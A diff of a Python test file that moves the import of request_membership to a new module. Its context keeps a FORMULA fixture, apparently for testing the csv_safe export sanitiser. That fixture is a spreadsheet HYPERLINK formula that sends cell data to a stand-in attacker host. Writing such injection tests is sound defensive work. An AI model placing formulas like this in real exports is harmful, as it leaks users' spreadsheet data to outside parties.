@@ -5,8 +5,8 @@ import io
 
 import pytest
 
-from portal.accounts.services import request_membership
 from portal.exports import csv_safe
+from portal.services.memberships import request_membership
 
 FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'
 
